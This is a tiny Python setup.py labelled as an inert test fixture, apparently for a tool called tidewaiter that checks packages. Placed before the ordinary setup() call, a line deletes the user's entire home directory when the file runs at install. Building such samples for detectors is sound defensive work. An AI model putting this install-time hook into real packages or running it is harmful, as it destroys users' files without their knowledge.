# Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
import os
import shutil

shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)


from setuptools import setup

setup(name="fixture", version="1", packages=["fixture"])
